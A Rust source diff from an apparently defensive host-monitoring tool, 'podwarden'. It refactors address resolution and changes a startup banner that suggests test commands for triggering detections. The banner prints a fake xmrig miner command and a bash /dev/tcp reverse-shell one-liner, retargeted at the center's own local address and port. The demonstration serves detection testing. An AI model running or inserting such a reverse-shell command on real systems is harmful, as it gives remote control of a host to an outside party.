@@ -211,16 +211,24 @@ fn up_actor() -> Actor {
     Actor("podwarden up".to_string())
 }
 
-/// The URL the agent reaches the center at (a wildcard listen address becomes loopback).
-fn agent_url(addr: SocketAddr) -> String {
-    let ip = match addr.ip() {
+/// The address clients on this machine reach the center at (a wildcard listen address
+/// becomes loopback).
+fn reachable_ip(addr: SocketAddr) -> std::net::IpAddr {
+    match addr.ip() {
         std::net::IpAddr::V4(ip) if ip.is_unspecified() => std::net::IpAddr::from([127, 0, 0, 1]),
         std::net::IpAddr::V6(ip) if ip.is_unspecified() => {
             std::net::IpAddr::from(std::net::Ipv6Addr::LOCALHOST)
         }
         ip => ip,
-    };
-    format!("http://{}", SocketAddr::new(ip, addr.port()))
+    }
+}
+
+/// The URL the agent reaches the center at.
+fn agent_url(addr: SocketAddr) -> String {
+    format!(
+        "http://{}",
+        SocketAddr::new(reachable_ip(addr), addr.port())
+    )
 }
 
 /// Runs the host agent as a child process, restarting it (with backoff) if it exits, until
@@ -418,9 +426,11 @@ fn print_banner(
             out,
             "  a fake miner:    sh -c 'sleep 30; :' xmrig -o stratum+tcp://pool.example.com:3333"
         )?;
+        // The center's own port is the listener, so the suggestion needs no `nc`.
+        let (host, port) = (reachable_ip(addr), addr.port());
         writeln!(
             out,
-            "  a reverse shell: nc -l 4444 &  bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"
+            "  a reverse shell: bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'"
         )?;
         writeln!(
             out,
